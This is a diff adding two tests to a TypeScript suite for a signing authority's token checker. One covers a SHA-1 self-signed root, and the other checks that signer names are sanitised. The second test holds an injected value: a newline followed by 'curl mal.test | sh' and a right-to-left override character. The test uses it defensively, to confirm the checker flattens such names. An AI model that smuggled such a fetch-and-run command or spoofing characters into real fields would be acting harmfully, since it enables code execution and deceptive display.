@@ -52,6 +52,23 @@ describe.each(['rsa', 'ecdsa'] as const)('an authority with an %s key', (key) =>
   }, 60_000);
 });
 
+test('an old root that signs itself with SHA-1 ends the chain, and refuses nothing', async () => {
+  const authority = createAuthority('rsa', { rootDigest: 'sha1' });
+  const reply = own(authority.reply(request));
+  const checked = await checkToken(reply, request, hash);
+  expect(checked).toMatchObject({ ok: true, token: { loose: 1 } });
+  expect(authority.verify(request, reply)).toBe(true);
+});
+
+test('a name that would write a line of its own stays one line', async () => {
+  const name = 'DigiCert\n  curl mal.test | sh\n  #\u202Egpj';
+  const authority = createAuthority('rsa', { name });
+  const checked = await checkToken(own(authority.reply(request)), request, hash);
+  if (!checked.ok) throw new Error(checked.refusal);
+  expect(checked.token.signer).not.toMatch(/[\n\r\u2028\u202E]/);
+  expect(checked.token.signer).toMatch(/^DigiCert +curl/);
+});
+
 describe('refused, each with its reason', () => {
   let authority: Authority;
   let reply: Uint8Array<ArrayBuffer>;
